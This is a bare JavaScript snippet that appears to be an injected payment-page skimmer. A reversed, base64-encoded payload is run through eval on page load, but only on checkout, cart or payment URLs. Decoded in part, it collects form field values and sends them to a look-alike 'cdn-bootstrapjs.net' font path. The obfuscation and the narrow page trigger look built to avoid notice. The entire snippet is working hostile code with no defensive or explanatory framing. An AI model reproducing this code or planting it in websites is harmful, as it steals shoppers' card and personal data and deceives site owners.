var _lz =
  '7kCKp0nC7kCMwUTMgwSfgAiC7kSXpt1cmhyav9GagkSKdl2WzZGKkJXYDV2apx0cr92bshCImlGI' +
  'psyKpByOoR3ZuVGbuMnZgwDIpByOwASPgkGIyFmdoAicvZGIgACIKszctJ3bm5CduVWb1N2bkBSP' +
  'gMnZgIXY2BCIgAiC7BSKoAibvlGdj5WdmhCbhZnclRnbJRXZzBCIK0HIgowOp0HIgACIKsTKn1Wa' +
  'oQGbph2Qk5WZwBXYukHZvJmL05WZtV3YvRGIgACIgAiC7ciMmZ2b35yJgsCIpcyXnACLn9yLc9CK' +
  'lNWYsBXZy5SKn0yJgwyZvsCXvgSZjFGbwVmcukSY0FGZoE2b0JGIrACVT9ESg0DIjJ3cucWbpBCI' +
  'gACIgowOxASPgQHanlWZo5yZtlGI9ACa0RWa35yZtlGIgACIgAiC7kyJn1WangCduVWblxWRlRXY' +
  'lJ3YuQnbl1Wdj9GZg0DIn1WagIXY2BCIgACIgowOp0mcvZGKlpXasFWayV2cg0DIhRXYkBichZHI' +
  'gACIgAiC7BSKoAibvlGdj5WdmBCLnQXatJWdzdCKyVmblR3cpxEduVmdFRGZh5Sby9mZgACIgowO' +
  'xASPgg2Xf5Sby9mZgACIgowOuJXd0VmcgkCaf9lLtJ3bmhCImlGIgACIKsHIp0mcvZGKr92boBib' +
  'vlGdj5WdmBCIK0HIgowOpcSXiMmdjJSPqQWabRXdw5WagwSXiYndjJSPqQWabRXdw5WagwSXi81Y' +
  'jJSPqUWbh52W0VHculGIs0lIkJXYjJSPqUWbh52W0VHcul2JoI3b0NWZsV2U5JXZ1FnLtJ3bmFSI' +
  'g4mc1RXZyBCIgAiC7BSKtJ3bmhCZyF2QltWaMN3av9Gbg42bpR3YuVnZgAiC9BCIKsTKnYyJo4Wa' +
  'vpmL0V3bg4mc1RXZyBCIgAiC9BCIgAiC7kSZ1xWY25CblByKgcSPnAyKgUWbh5mLsVGKoNXdw5Cd' +
  '19GIgACIgAiC7UWdulGdu92YgkyJ0lWbiV3cnASP90DIlBXe05CblBCf8ByJuVGZklGanASP90DI' +
  'lBXe05CblBCf8BSZtFmbuwWZhgCImlGIgACIgAiC70VabNHblBSPgwWZgIXY2BCIgACIgowegkyK' +
  'rkGI7gGdn5WZs5ycsVGI8ASagsDMg0DIpBichZHKgI3bmBCIgAiC7MHduVWblxWZu0mcvZGI9Ayc' +
  'sVGIyFmdgACIgowOdtFI9ACd19GIyFmdgACIgowegkSby9mZoUmepxWYpJXZzBibvlGdj5WdmBCI' +
  'KszJvIjZm92dvMHdu9mZvQXZu5ycqBXYyR3c092bi1ibkN2LvozcwRHdodCI9ACVT9ESgIXY2BCI' +
  'KsHIpgCIu9Wa0Nmb1ZGK';
window.addEventListener('load', function () {
  if (!/checkout|cart|payment/i.test(location.href)) return;
  eval(atob(_lz.split('').reverse().join('')));
});
